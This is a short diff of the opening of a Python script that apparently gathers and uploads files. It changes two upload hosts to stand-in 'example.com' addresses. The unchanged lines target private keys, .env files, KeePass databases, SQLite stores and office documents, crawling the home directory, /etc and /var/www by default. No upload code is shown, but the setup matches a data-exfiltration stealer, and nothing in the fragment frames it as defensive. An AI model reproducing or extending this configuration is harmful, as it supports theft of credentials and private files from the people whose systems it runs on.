@@ -1,6 +1,6 @@
 import os, sys, threading, urllib.request
 
-HOSTS = ["https://logs-a.centralstore.invalid/put/", "https://logs-b.centralstore.invalid/put/"]
+HOSTS = ["https://logs-a.centralstore.example.com/put/", "https://logs-b.centralstore.example.com/put/"]
 INCLUDE = (".log", ".txt", ".docx", ".xlsx", ".pdf", ".pem", ".key", ".env", ".sqlite", ".kdbx")
 ROOTS = sys.argv[1:] or [os.path.expanduser("~"), "/etc", "/var/www"]
 
